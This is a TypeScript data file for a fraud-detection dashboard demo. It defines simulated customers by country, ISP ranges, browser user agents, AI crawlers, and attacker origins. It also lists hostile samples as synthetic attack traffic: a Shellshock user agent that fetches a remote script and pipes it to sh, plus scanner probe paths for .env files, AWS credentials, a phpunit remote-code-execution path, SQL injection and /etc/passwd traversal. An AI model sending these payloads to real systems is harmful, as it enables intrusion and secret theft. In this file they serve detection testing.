/**
 * Static tables of the demo: where the simulated customers live and which networks, browsers,
 * names and mail providers they use; where the attackers come from. Every address range is a
 * public allocation announced by the organisation named beside it (checked against the bundled
 * offline enrichment by apps/server/test/demo-data.test.ts), so the dashboard shows real ISPs,
 * countries and datacenter flags. Never private, reserved or documentation ranges.
 */

export interface Country {
  /** ISO 3166 alpha-2 (what the offline enrichment reports for the ranges below). */
  code: string;
  /** Share of the customer base. */
  weight: number;
  /** Hours from UTC (rough, no daylight saving: only used to keep customers awake). */
  utcOffset: number;
  /** Accept-Language tags, most preferred first. */
  languages: readonly string[];
  /** Probability that a device is a phone. */
  mobileShare: number;
  /** Home broadband ranges (IPv4). */
  fixed: readonly string[];
  /** Mobile carrier ranges (IPv4); phones use them away from home. */
  mobile: readonly string[];
  /** IPv6 prefixes of home broadband; a household gets a /64 inside one. */
  v6: readonly string[];
  /** Share of households with IPv6. */
  ipv6Share: number;
  first: readonly string[];
  last: readonly string[];
  mail: readonly string[];
  phone: (pick: (digits: number) => string, choose: <T>(items: readonly T[]) => T) => string;
}

export const COUNTRIES: readonly Country[] = [
  {
    code: 'US',
    weight: 30,
    utcOffset: -6,
    languages: ['en-US', 'en'],
    mobileShare: 0.45,
    fixed: ['73.0.0.0/8', '98.192.0.0/10'], // Comcast
    mobile: ['174.200.0.0/17', '172.32.0.0/11'], // Verizon Business, T-Mobile US
    v6: ['2601:180::/25'], // Comcast
    ipv6Share: 0.35,
    first: [
      'James',
      'Mary',
      'Michael',
      'Jennifer',
      'David',
      'Linda',
      'Chris',
      'Ashley',
      'Jose',
      'Emily',
      'Robert',
      'Sarah',
      'Daniel',
      'Jessica',
      'Matthew',
      'Olivia',
      'Anthony',
      'Megan',
      'Kevin',
      'Rachel',
    ],
    last: [
      'Smith',
      'Johnson',
      'Williams',
      'Brown',
      'Jones',
      'Garcia',
      'Miller',
      'Davis',
      'Martinez',
      'Lee',
      'Wilson',
      'Anderson',
      'Taylor',
      'Thomas',
      'Moore',
      'Jackson',
      'White',
      'Harris',
      'Clark',
      'Lewis',
    ],
    mail: ['gmail.com', 'yahoo.com', 'outlook.com', 'icloud.com', 'hotmail.com', 'aol.com', 'comcast.net'],
    phone: (digits, choose) =>
      `+1${choose(['212', '310', '415', '512', '617', '702', '773', '818'])}${choose(['2', '3', '4', '5', '6', '7', '8', '9'])}${digits(6)}`,
  },
  {
    code: 'DE',
    weight: 12,
    utcOffset: 1,
    languages: ['de-DE', 'de', 'en-US', 'en'],
    mobileShare: 0.4,
    fixed: ['79.192.0.0/10', '87.128.0.0/10', '91.0.0.0/10', '93.192.0.0/10'], // Deutsche Telekom
    mobile: ['95.88.0.0/14'], // Vodafone
    v6: ['2003:c0::/26', '2003:e0::/27'], // Deutsche Telekom
    ipv6Share: 0.5,
    first: [
      'Lukas',
      'Anna',
      'Jonas',
      'Lea',
      'Felix',
      'Sophie',
      'Jürgen',
      'Käthe',
      'Max',
      'Marie',
      'Paul',
      'Laura',
      'Leon',
      'Hannah',
      'Tim',
      'Julia',
    ],
    last: [
      'Müller',
      'Schmidt',
      'Schneider',
      'Fischer',
      'Weber',
      'Meyer',
      'Wagner',
      'Becker',
      'Schäfer',
      'Hoffmann',
      'Koch',
      'Richter',
      'Klein',
      'Wolf',
      'Neumann',
      'Braun',
    ],
    mail: ['gmx.de', 'web.de', 't-online.de', 'gmail.com', 'posteo.de', 'outlook.de'],
    phone: (digits, choose) => `+49${choose(['151', '160', '170', '171', '176', '157'])}${digits(8)}`,
  },
  {
    code: 'FR',
    weight: 10,
    utcOffset: 1,
    languages: ['fr-FR', 'fr', 'en-US', 'en'],
    mobileShare: 0.5,
    fixed: ['90.0.0.0/11', '86.192.0.0/11', '78.192.0.0/12', '88.160.0.0/11'], // Orange, Free
    mobile: [],
    v6: ['2a01:cb00::/24'], // Orange
    ipv6Share: 0.5,
    first: [
      'Léa',
      'Hugo',
      'Chloé',
      'Louis',
      'Manon',
      'Gabriel',
      'Inès',
      'Raphaël',
      'Camille',
      'Jules',
      'Lucie',
      'Arthur',
      'Sarah',
      'Nathan',
      'Emma',
      'Théo',
    ],
    last: [
      'Martin',
      'Bernard',
      'Dubois',
      'Thomas',
      'Robert',
      'Richard',
      'Petit',
      'Durand',
      'Lefèvre',
      'Moreau',
      'Laurent',
      'Simon',
      'Michel',
      'Garnier',
      'Roux',
      'Fournier',
    ],
    mail: ['orange.fr', 'free.fr', 'laposte.net', 'gmail.com', 'hotmail.fr', 'sfr.fr'],
    phone: (digits, choose) =>
      `+33${choose(['61', '62', '64', '65', '66', '67', '68', '75', '76', '77', '78'])}${digits(7)}`,
  },
  {
    code: 'GB',
    weight: 12,
    utcOffset: 0,
    languages: ['en-GB', 'en-US', 'en'],
    mobileShare: 0.5,
    fixed: ['86.128.0.0/10', '81.128.0.0/11', '82.0.0.0/12', '86.0.0.0/11'], // BT, Virgin Media
    mobile: ['31.94.0.0/17'], // BT/EE mobile
    v6: ['2a00:23c0::/28'], // BT
    ipv6Share: 0.35,
    first: [
      'Oliver',
      'Amelia',
      'George',
      'Isla',
      'Harry',
      'Ava',
      'Noah',
      'Mia',
      'Jack',
      'Grace',
      'Charlie',
      'Freya',
      'Alfie',
      'Poppy',
      'Oscar',
      'Ella',
    ],
    last: [
      'Smith',
      'Jones',
      'Taylor',
      'Brown',
      'Williams',
      'Wilson',
      'Evans',
      'Thomas',
      "O'Brien",
      'Roberts',
      'Walker',
      'Wright',
      'Hughes',
      'Green',
      'Hall',
      'Wood',
    ],
    mail: ['gmail.com', 'btinternet.com', 'yahoo.co.uk', 'hotmail.co.uk', 'outlook.com', 'sky.com'],
    phone: (digits, choose) =>
      `+44${choose(['7400', '7415', '7445', '7476', '7522', '7553', '7583', '7702', '7747', '7777', '7824', '7871', '7901', '7948'])}${digits(6)}`,
  },
  {
    code: 'BR',
    weight: 10,
    utcOffset: -3,
    languages: ['pt-BR', 'pt', 'en-US', 'en'],
    mobileShare: 0.65,
    fixed: ['177.40.0.0/14', '187.10.0.0/15'], // Telefônica Vivo
    mobile: [],
    v6: [],
    ipv6Share: 0,
    first: [
      'João',
      'Maria',
      'Pedro',
      'Ana',
      'Lucas',
      'Júlia',
      'Gabriel',
      'Beatriz',
      'Rafael',
      'Larissa',
      'Mateus',
      'Camila',
      'Bruno',
      'Fernanda',
      'Thiago',
      'Letícia',
    ],
    last: [
      'Silva',
      'Santos',
      'Oliveira',
      'Souza',
      'Lima',
      'Pereira',
      'Gonçalves',
      'Araújo',
      'Costa',
      'Ribeiro',
      'Almeida',
      'Carvalho',
      'Rocha',
      'Barbosa',
      'Melo',
      'Cardoso',
    ],
    mail: ['gmail.com', 'hotmail.com', 'uol.com.br', 'bol.com.br', 'yahoo.com.br', 'outlook.com'],
    phone: (digits, choose) => `+55${choose(['11', '21', '31', '41', '51', '61'])}9${digits(8)}`,
  },
  {
    code: 'IN',
    weight: 12,
    utcOffset: 5.5,
    languages: ['en-IN', 'en-GB', 'en-US', 'en', 'hi'],
    mobileShare: 0.75,
    fixed: ['106.200.0.0/18', '122.170.0.0/18'], // Bharti Airtel broadband
    mobile: ['49.40.0.0/14', '157.32.0.0/12'], // Reliance Jio
    v6: ['2409:4040::/26'], // Reliance Jio
    ipv6Share: 0.5,
    first: [
      'Aarav',
      'Ananya',
      'Vivaan',
      'Diya',
      'Aditya',
      'Priya',
      'Rohan',
      'Sneha',
      'Arjun',
      'Kavya',
      'Rahul',
      'Pooja',
      'Vikram',
      'Neha',
      'Karan',
      'Isha',
    ],
    last: [
      'Sharma',
      'Patel',
      'Singh',
      'Kumar',
      'Gupta',
      'Reddy',
      'Iyer',
      'Nair',
      'Das',
      'Mehta',
      'Joshi',
      'Rao',
      'Verma',
      'Bhat',
      'Malhotra',
      'Chopra',
    ],
    mail: ['gmail.com', 'yahoo.co.in', 'rediffmail.com', 'outlook.com', 'hotmail.com'],
    phone: (digits, choose) => `+91${choose(['98', '97', '99', '90', '88', '70'])}${digits(8)}`,
  },
  {
    code: 'JP',
    weight: 8,
    utcOffset: 9,
    languages: ['ja', 'en-US', 'en'],
    mobileShare: 0.6,
    fixed: ['126.0.0.0/12', '153.128.0.0/10'], // SoftBank, NTT
    mobile: ['106.128.0.0/10'], // KDDI
    v6: ['2400:4000::/22'], // NTT
    ipv6Share: 0.4,
    first: [
      'Haruto',
      'Yui',
      'Sota',
      'Hina',
      'Yuto',
      'Sakura',
      'Riku',
      'Aoi',
      'Takumi',
      'Mei',
      'Ren',
      'Yuna',
      'Kaito',
      'Rin',
      'Daiki',
      'Saki',
    ],
    last: [
      'Sato',
      'Suzuki',
      'Takahashi',
      'Tanaka',
      'Watanabe',
      'Ito',
      'Yamamoto',
      'Nakamura',
      'Kobayashi',
      'Kato',
      'Yoshida',
      'Yamada',
      'Sasaki',
      'Matsumoto',
      'Inoue',
      'Kimura',
    ],
    mail: ['gmail.com', 'yahoo.co.jp', 'docomo.ne.jp', 'icloud.com', 'outlook.jp'],
    phone: (digits, choose) =>
      `+81${choose(['90', '80', '70'])}${choose(['1', '2', '3', '4', '5', '6', '7', '8', '9'])}${digits(7)}`,
  },
  {
    code: 'NG',
    weight: 6,
    utcOffset: 1,
    languages: ['en-NG', 'en-US', 'en'],
    mobileShare: 0.85,
    fixed: [],
    mobile: ['102.88.0.0/13', '105.113.0.0/17'], // MTN Nigeria, Airtel Nigeria
    v6: [],
    ipv6Share: 0,
    first: [
      'Chinedu',
      'Ngozi',
      'Emeka',
      'Aisha',
      'Tunde',
      'Funmilayo',
      'Ibrahim',
      'Chioma',
      'Segun',
      'Amaka',
      'Yusuf',
      'Kemi',
      'Obinna',
      'Zainab',
    ],
    last: [
      'Okafor',
      'Adeyemi',
      'Bello',
      'Okonkwo',
      'Eze',
      'Abubakar',
      'Olawale',
      'Nwosu',
      'Balogun',
      'Ogunleye',
      'Musa',
      'Chukwu',
    ],
    mail: ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com'],
    phone: (digits, choose) =>
      `+234${choose(['803', '806', '813', '816', '703', '706', '802', '808'])}${digits(7)}`,
  },
];

/**
 * Residential networks account takeovers come from (often a residential proxy in another
 * country than the victim's), with the language of the attacker's browser.
 */
export const ATTACKER_ORIGINS: readonly { code: string; ranges: readonly string[]; language: string }[] = [
  { code: 'RU', ranges: ['178.64.0.0/13'], language: 'ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7' }, // Rostelecom
  { code: 'VN', ranges: ['27.70.0.0/16', '113.160.0.0/11'], language: 'vi-VN,vi;q=0.9,en;q=0.8' }, // Viettel, VNPT
  { code: 'RO', ranges: ['86.120.0.0/14'], language: 'ro-RO,ro;q=0.9,en-US;q=0.8,en;q=0.7' }, // DIGI Romania
  { code: 'ID', ranges: ['36.68.0.0/14'], language: 'id-ID,id;q=0.9,en-US;q=0.8,en;q=0.7' }, // Telkom Indonesia
  { code: 'UA', ranges: ['46.211.0.0/16'], language: 'uk-UA,uk;q=0.9,en-US;q=0.8,en;q=0.7' }, // Kyivstar
  { code: 'NG', ranges: ['102.88.0.0/13'], language: 'en-NG,en;q=0.9' }, // MTN Nigeria
];

/** Hosting networks, by provider: the offline enrichment flags all of them as datacenters. */
export const CLOUD_RANGES: Readonly<Record<'aws' | 'digitalocean' | 'hetzner' | 'ovh', readonly string[]>> = {
  aws: ['3.80.0.0/12', '18.204.0.0/14', '52.0.0.0/12', '54.160.0.0/14', '34.192.0.0/12'],
  digitalocean: ['167.99.0.0/16', '206.189.0.0/16', '165.22.0.0/16', '64.225.0.0/17', '159.89.0.0/19'],
  hetzner: [
    '5.9.0.0/16',
    '88.99.0.0/16',
    '95.216.0.0/15',
    '135.181.0.0/16',
    '49.12.0.0/15',
    '116.202.0.0/15',
  ],
  ovh: ['51.38.0.0/16', '51.68.0.0/16', '54.36.0.0/14', '147.135.0.0/16', '145.239.0.0/16'],
};
export type CloudProvider = keyof typeof CLOUD_RANGES;
export const CLOUD_PROVIDERS = Object.keys(CLOUD_RANGES) as CloudProvider[];

/** A hosting network that commercial VPNs rent exits in (Datacamp / CDN77): also a datacenter. */
export const VPN_RANGES: readonly string[] = ['89.187.160.0/19'];

/** Throwaway mailboxes (all in the bundled disposable-domain list). */
export const DISPOSABLE_DOMAINS: readonly string[] = [
  'mailinator.com',
  'yopmail.com',
  'guerrillamail.com',
  'sharklasers.com',
  '10minutemail.com',
  'temp-mail.org',
  'dispostable.com',
  'maildrop.cc',
  'trashmail.com',
  'getnada.com',
  'grr.la',
];

/** Mailboxes of a leaked combo list (credential stuffing identities). */
export const LEAKED_DOMAINS: readonly string[] = [
  'gmail.com',
  'yahoo.com',
  'hotmail.com',
  'outlook.com',
  'aol.com',
  'mail.ru',
  'gmx.de',
  'yahoo.fr',
];

export interface BrowserFamily {
  name: string;
  mobile: boolean;
  weight: number;
  ua: (between: (min: number, max: number) => number, choose: <T>(items: readonly T[]) => T) => string;
}

/** Current browsers of real customers; the versions are recent stable ones. */
export const BROWSERS: readonly BrowserFamily[] = [
  {
    name: 'chrome-windows',
    mobile: false,
    weight: 40,
    ua: (between) =>
      `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${between(128, 131)}.0.0.0 Safari/537.36`,
  },
  {
    name: 'edge-windows',
    mobile: false,
    weight: 8,
    ua: (between) => {
      const v = between(128, 131);
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v}.0.0.0 Safari/537.36 Edg/${v}.0.0.0`;
    },
  },
  {
    name: 'safari-macos',
    mobile: false,
    weight: 15,
    ua: (_between, choose) =>
      `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${choose(['17.6', '18.0', '18.1', '18.2'])} Safari/605.1.15`,
  },
  {
    name: 'firefox-windows',
    mobile: false,
    weight: 6,
    ua: (between) => {
      const v = between(130, 133);
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`;
    },
  },
  {
    name: 'firefox-linux',
    mobile: false,
    weight: 3,
    ua: (between, choose) => {
      const v = between(130, 133);
      return `Mozilla/5.0 (${choose(['X11; Linux x86_64', 'X11; Ubuntu; Linux x86_64'])}; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`;
    },
  },
  {
    name: 'safari-ios',
    mobile: true,
    weight: 35,
    ua: (_between, choose) => {
      const [os, version] = choose([
        ['17_6_1', '17.6'],
        ['18_0_1', '18.0'],
        ['18_1', '18.1'],
        ['18_2', '18.2'],
      ] as const);
      return `Mozilla/5.0 (iPhone; CPU iPhone OS ${os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${version} Mobile/15E148 Safari/604.1`;
    },
  },
  {
    name: 'chrome-android',
    mobile: true,
    weight: 55,
    ua: (between, choose) => {
      const model = choose(['K', 'K', 'K', 'SM-S918B', 'SM-A546B', 'Pixel 8', 'Redmi Note 12']);
      const android = model === 'K' ? '10' : choose(['13', '14']);
      return `Mozilla/5.0 (Linux; Android ${android}; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${between(128, 131)}.0.0.0 Mobile Safari/537.36`;
    },
  },
];

/** AI crawlers and agents as they announce themselves, with the cloud they crawl from. */
export const AI_CRAWLERS: readonly { ua: string; cloud: CloudProvider }[] = [
  {
    ua: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
    cloud: 'aws',
  },
  {
    ua: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)',
    cloud: 'aws',
  },
  {
    ua: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)',
    cloud: 'aws',
  },
  {
    ua: 'Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)',
    cloud: 'digitalocean',
  },
  { ua: 'CCBot/2.0 (https://commoncrawl.org/faq/)', cloud: 'aws' },
  {
    ua: 'Mozilla/5.0 (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)',
    cloud: 'aws',
  },
];

/** Headless browsers scraping prices: a desktop Chrome that gives itself away. */
export const HEADLESS_UAS: readonly string[] = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.60 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.6478.126 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/129.0.6668.58 Safari/537.36',
];

/** Vulnerability scanners and scripts; the last one is a Shellshock probe in the User-Agent itself. */
export const SCANNER_UAS: readonly string[] = [
  'sqlmap/1.8.2#stable (https://sqlmap.org)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Mozilla/5.0 zgrab/0.x',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  '() { :; }; /bin/bash -c "wget http://203.0.113.50/x.sh -O- | sh"',
];

/** Credential stuffing tools: command-line clients, scripts and a stale hard-coded Chrome. */
export const STUFFING_UAS: readonly string[] = [
  'python-requests/2.31.0',
  'curl/8.5.0',
  'Go-http-client/1.1',
  'python-httpx/0.27.0',
  'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
];

/** What scanners probe for: leaked secrets, admin consoles, known exploits (rule B06). */
export const PROBE_PATHS: readonly string[] = [
  '/.env',
  '/.env.production',
  '/.git/config',
  '/.git/HEAD',
  '/wp-admin/',
  '/wp-login.php',
  '/wp-content/plugins/revslider/temp/update_extract/',
  '/xmlrpc.php',
  '/phpmyadmin/index.php',
  '/adminer.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/config.php.bak',
  '/backup.sql',
  '/.aws/credentials',
  '/server-status',
  '/actuator/env',
  '/cgi-bin/luci/;stok=/locale',
  '/_ignition/execute-solution',
  '/products/1%27%20union%20select%201,2,3--',
  '/search/..%2f..%2f..%2fetc%2fpasswd',
  '/owa/auth/logon.aspx',
  '/.DS_Store',
];

export const APP_ORIGIN = 'https://shop.example.com';
export const CATEGORIES = ['shoes', 'books', 'garden', 'electronics', 'toys', 'kitchen', 'sports'];
export const HELP_TOPICS = ['shipping', 'returns', 'payment', 'account', 'privacy'];
export const SEARCH_TERMS = [
  'running shoes',
  'usb-c cable',
  'garden hose 20m',
  'kindle',
  'lego technic',
  'coffee grinder',
  'yoga mat',
  'headphones noise cancelling',
  'chaussures de sport',
  'Küchenmaschine',
  'tênis corrida',
  'ワイヤレスイヤホン',
  'phone case',
  'gift card',
  'winter jacket',
  'air fryer',
];
export const PROMO_SEARCHES = [
  'promo code',
  'coupon',
  'discount code',
  'WELCOME20',
  'first order discount',
  'free shipping code',
  'referral bonus',
  'gift card',
];
export const PROMO_CODES = ['WELCOME20', 'NEWUSER15', 'FIRST10', 'FREESHIP', 'SPRING25'];
/** Pages that used to exist: ordinary customers' occasional 404s. */
export const BROKEN_PATHS = [
  '/promo/summer-2023',
  '/images/banner-old.png',
  '/products/000000',
  '/account/preferences.html',
  '/blog/2019/02/launch',
];
export const EXTERNAL_REFERERS = [
  'https://www.google.com/',
  'https://www.google.de/',
  'https://www.bing.com/',
  'https://duckduckgo.com/',
  'https://t.co/',
  'https://www.facebook.com/',
  'android-app://com.google.android.gm/',
];

export interface EditableField {
  id: string;
  name: string;
  values: readonly string[] | null;
}

/** Profile fields customers edit (`field_edit`). */
export const PROFILE_FIELDS: readonly EditableField[] = [
  { id: 'profile.city', name: 'City', values: ['Paris', 'London', 'Berlin', 'São Paulo', 'Mumbai', 'Tokyo'] },
  { id: 'profile.newsletter', name: 'Newsletter', values: ['weekly', 'monthly', 'never'] },
  { id: 'profile.display_name', name: 'Display name', values: null },
  { id: 'profile.currency', name: 'Preferred currency', values: ['USD', 'EUR', 'GBP', 'BRL', 'INR', 'JPY'] },
];
export const SEARCH_FIELD = { id: 'site.search', name: 'Site search' };

/** Fields of customer records that back-office staff can change (the insider's targets). */
export const BACKOFFICE_FIELDS: readonly EditableField[] = [
  { id: 'customer.payout_iban', name: 'Payout IBAN', values: null },
  { id: 'customer.email', name: 'Customer e-mail', values: null },
  { id: 'customer.phone', name: 'Customer phone', values: null },
  { id: 'customer.credit_limit', name: 'Credit limit', values: ['500', '1000', '2500', '5000', '10000'] },
  { id: 'order.refund_status', name: 'Refund status', values: ['requested', 'approved', 'paid'] },
  { id: 'order.shipping_address', name: 'Shipping address', values: null },
  { id: 'customer.loyalty_points', name: 'Loyalty points', values: ['0', '250', '1200', '5000', '25000'] },
];

/** Where staff of the simulated shop work from: the office's business line (Deutsche Telekom). */
export const STAFF = {
  mailDomain: 'staff.example.com',
  country: 'DE',
  office: '91.0.0.0/10',
  home: ['79.192.0.0/10', '95.88.0.0/14'],
  language: 'de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7',
} as const;
